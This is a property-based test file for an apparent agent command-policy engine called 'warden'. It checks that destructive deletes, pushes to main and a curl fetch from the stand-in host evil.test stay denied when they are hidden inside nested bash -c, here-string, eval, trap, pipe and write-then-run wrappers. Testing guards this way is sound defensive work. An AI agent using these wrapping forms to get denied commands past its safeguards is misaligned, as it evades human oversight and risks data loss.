// A denied action never happens unseen, however the shell carries its code
// (E42, E44): random nestings of the forms that hand code to a shell — a
// script given with `-c`, a here-string on standard input or a descriptor, a
// callback, `eval`, a trap, a substitution, a pipe, a file written and then
// run — around `rm -rf victim`, a push to main and a fetch from a denied
// host. The engine answers deny or prompt for every nesting it can read; a
// file written and then run is only processSpawn to it, and there the
// transactional run decides on what it did. Through `warden exec` the file
// never goes, whatever the nesting.

import fc from 'fast-check';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compilePolicy, decide, validatePolicy } from '@warden/engine';
import { BIN, runAsync } from '../helpers.js';
import { sandboxForTests, tempDir } from '../support/backends.js';

const POLICY = {
  version: 1,
  workspace: 'acme',
  rules: [
    { id: 'spawn', action: 'processSpawn', decision: 'allow' },
    {
      id: 'keep-victim',
      action: 'fileDelete',
      decision: 'deny',
      when: { paths: ['victim', 'victim/**'] },
    },
    { id: 'protect-main', action: 'gitPush', decision: 'deny', when: { refs: ['main'] } },
    { id: 'no-evil', action: 'networkEgress', decision: 'deny', when: { hosts: ['evil.test'] } },
  ],
};

const q = (text: string): string => `'${text.replace(/'/g, `'\\''`)}'`;

interface Form {
  readonly name: string;
  readonly wrap: (command: string) => string;
  /** The code reaches the shell through a file the command wrote: no reader sees it. */
  readonly file?: true;
}

const FORMS: readonly Form[] = [
  { name: 'bash -c', wrap: (c) => `bash -c ${q(c)}` },
  { name: 'sh -c', wrap: (c) => `sh -c ${q(c)}` },
  { name: 'bash -', wrap: (c) => `bash - <<< ${q(c)}` },
  { name: 'bash /dev/stdin', wrap: (c) => `bash /dev/stdin <<< ${q(c)}` },
  { name: 'sh /dev/fd/0', wrap: (c) => `sh /dev/fd/0 <<< ${q(c)}` },
  { name: 'bash /dev/fd/3', wrap: (c) => `bash /dev/fd/3 3<<< ${q(c)}` },
  { name: '. /dev/stdin', wrap: (c) => `. /dev/stdin <<< ${q(c)}` },
  { name: 'bash -s', wrap: (c) => `bash -s <<< ${q(c)}` },
  { name: 'mapfile -C', wrap: (c) => `mapfile -C ${q(`${c} #`)} -c 1 a <<< x` },
  { name: 'readarray -C', wrap: (c) => `readarray -C ${q(`${c} #`)} -c 1 a <<< x` },
  { name: 'eval', wrap: (c) => `eval ${q(c)}` },
  { name: 'trap', wrap: (c) => `trap ${q(c)} EXIT` },
  { name: 'env', wrap: (c) => `env FOO=1 bash -c ${q(c)}` },
  { name: '$(…)', wrap: (c) => `echo "$(${c})"` },
  { name: 'subshell', wrap: (c) => `( ${c} )` },
  { name: 'pipe', wrap: (c) => `printf '%s\\n' ${q(c)} | bash` },
  { name: 'pipe to /dev/stdin', wrap: (c) => `printf '%s\\n' ${q(c)} | bash /dev/stdin` },
  {
    name: 'a file written, then sourced',
    wrap: (c) => `printf '%s\\n' ${q(c)} > .run-$RANDOM.sh && . ./.run-*.sh`,
    file: true,
  },
  {
    name: 'a file written, then run',
    wrap: (c) => `printf '%s\\n' ${q(c)} > .step.sh && bash .step.sh`,
    file: true,
  },
];

const DENIED = ['rm -rf victim', 'git push origin main', 'curl https://evil.test/x'] as const;

const nesting = fc.record({
  action: fc.constantFrom(...DENIED),
  forms: fc.array(fc.constantFrom(...FORMS), { minLength: 1, maxLength: 3 }),
});

function built(action: string, forms: readonly Form[]): string {
  return forms.reduce((command, form) => form.wrap(command), action);
}

const compiled = (() => {
  const policy = validatePolicy(POLICY, 'workspace');
  if (!policy.ok) throw new Error(JSON.stringify(policy.issues));
  return compilePolicy(policy.value);
})();

describe('E42, E44: code carried to a shell never does a denied action unseen', () => {
  it('every nesting a reader can see into is denied or asks; only a file hides the action from it', () => {
    fc.assert(
      fc.property(nesting, ({ action, forms }) => {
        const command = built(action, forms);
        const decision = decide({
          policy: compiled,
          request: { workspace: 'acme', agent: 'a', command, worktree: '/srv/w' },
          at: Date.parse('2026-12-01T00:00:00Z'),
          approverConnected: false,
        }).decision;
        if (forms.some((f) => f.file === true)) return;
        expect(decision, command).not.toBe('allow');
      }),
      { numRuns: 3000 },
    );
  });

  it('run transactionally, a nesting the reader cannot see into is allowed only over a layer, without network', () => {
    fc.assert(
      fc.property(nesting, ({ action, forms }) => {
        const command = built(action, forms);
        const result = decide({
          policy: compiled,
          request: { workspace: 'acme', agent: 'a', command, worktree: '/srv/w' },
          at: Date.parse('2026-12-01T00:00:00Z'),
          approverConnected: false,
          transactional: true,
        });
        if (forms.some((f) => f.file === true)) return;
        // What the reader saw denied stays denied; what it could not read runs where it is seen.
        if (result.decision === 'allow') expect(result.transactional, command).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});

const { backend, missing } = sandboxForTests();

describe.skipIf(missing !== null)(
  `E44: through \`warden exec\` the victim stays (${backend ?? 'no sandbox'})`,
  () => {
    it('for random nestings around `rm -rf victim`, the file is there after the run', async () => {
      const root = tempDir('warden-carriers-');
      const policy = join(root, 'policy.json');
      writeFileSync(policy, JSON.stringify(POLICY));
      const samples = fc.sample(
        fc.array(fc.constantFrom(...FORMS), { minLength: 1, maxLength: 3 }),
        { numRuns: 14, seed: 44 },
      );
      // Each kind of form at least once, alone.
      const cases = [...FORMS.map((f) => [f]), ...samples];
      for (const [index, forms] of cases.entries()) {
        const worktree = join(root, `wt-${index}`);
        mkdirSync(join(worktree, 'victim'), { recursive: true });
        writeFileSync(join(worktree, 'victim', 'v.txt'), 'still here\n');
        const command = built('rm -rf victim', forms);
        const ran = await runAsync(
          process.execPath,
          [
            BIN,
            'exec',
            '--policy',
            policy,
            '--data',
            join(root, 'data'),
            '--worktree',
            worktree,
            '--',
            command,
          ],
          { env: { ...process.env, WARDEN_URL: '', WARDEN_TOKEN: '', WARDEN_LOG_LEVEL: 'silent' } },
        );
        expect(existsSync(join(worktree, 'victim', 'v.txt')), `${command}\n${ran.stderr}`).toBe(
          true,
        );
        expect(ran.code, command).toBe(3);
      }
    }, 240_000);
  },
);
